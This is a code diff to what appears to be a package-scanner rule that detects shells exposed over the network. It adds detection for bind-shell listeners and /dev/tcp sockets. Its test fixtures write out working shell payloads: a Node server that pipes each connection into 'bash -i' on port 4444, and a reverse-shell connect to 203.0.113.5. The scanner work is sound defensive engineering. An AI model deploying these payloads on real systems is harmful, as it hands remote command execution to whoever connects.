@@ -1,4 +1,5 @@
-import type { Action, Fact, Flow, Rule, Text } from '../lib/types.ts'
+import { HOLE } from '../lib/types.ts'
+import type { Action, Fact, Flow, Inspection, Rule, Text } from '../lib/types.ts'
 import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
 import { findingAt, findingOfFlow, opening, quote, severityOf } from './finding.ts'
 import type { RuleFinding } from './finding.ts'
@@ -35,6 +36,14 @@ export const socketShell: Rule = {
               "const c = require('net').connect(4444, '203.0.113.5', () => {\n  c.pipe(sh.stdin)\n  sh.stdout.pipe(c)\n})\n",
           },
         },
+        {
+          title: 'a port that gives whoever connects a shell',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "require('net').createServer(socket => {\n  const sh = require('child_process').spawn('bash', ['-i'])\n  socket.pipe(sh.stdin)\n  sh.stdout.pipe(socket)\n}).listen(4444)\n",
+          },
+        },
       ],
       passes: [
         {
@@ -66,8 +75,11 @@ export const socketShell: Rule = {
         'whoever is there can run commands on this machine. Do not install it.'
       add(findingOfFlow(flow, { action, severity: severityOf(action), message }))
     }
-    for (const fact of inspection.facts)
+    for (const flow of inspection.flows) for (const one of ofListener(flow)) add(one)
+    for (const fact of inspection.facts) {
       if (fact.kind === 'starts') for (const one of ofCommand(fact)) add(one)
+      if (fact.kind === 'contacts') for (const one of ofDevice(fact, inspection)) add(one)
+    }
     return [...found.values()]
   },
 }
@@ -101,6 +113,40 @@ function weigh(flow: Flow, stranger: boolean, capture: boolean): Action {
   if (!flow.byCall && flow.phase !== 'run') return flow.certain ? 'block' : 'ask'
   if (capture) return flow.certain ? 'block' : 'ask'
   return stranger ? 'ask' : 'note'
+}
+
+/** A server that gives whoever connects a shell. One that a program opens on purpose asks who they are. */
+function ofListener(flow: Flow): readonly RuleFinding[] {
+  const { source, sink } = flow
+  if (flow.byCall || flow.phase === 'run' || flow.phase === 'dormant') return []
+  if (source.kind !== 'caller' || !source.name.startsWith('request ') || sink.kind !== 'command-stdin')
+    return []
+  if (!sink.destinations.some(isBareShell)) return []
+  const action = flow.certain ? 'block' : 'ask'
+  const message =
+    `${opening(flow)} waits for connections and gives whoever connects a shell (${shellOf(flow)}): ` +
+    'they can run commands on this machine. Do not install it.'
+  return [findingOfFlow(flow, { action, severity: severityOf(action), message })]
+}
+
+type Contacts = Extract<Fact, { kind: 'contacts' }>
+
+/** A shell's own socket, `/dev/tcp/host/port`, beside commands nobody wrote down: they come from there. */
+function ofDevice(fact: Contacts, inspection: Inspection): readonly RuleFinding[] {
+  if (!fact.api.startsWith('/dev/')) return []
+  const obeys = inspection.facts.some(
+    other =>
+      other.kind === 'starts' &&
+      other.at.path === fact.at.path &&
+      Math.abs(other.at.line - fact.at.line) <= 3 &&
+      other.commands.some(command => command.trimStart().startsWith(HOLE)),
+  )
+  if (!obeys) return []
+  const action: Action = fact.phase === 'run' && fact.byCall ? 'ask' : 'block'
+  const message =
+    `${opening(fact)} connects a shell to ${quote(fact.destinations[0] ?? fact.api)} and runs commands that stand ` +
+    'nowhere in it: whoever is at the other end can run them on this machine. Do not install it.'
+  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
 }
 
 /** Shells have their own ways to a socket. */
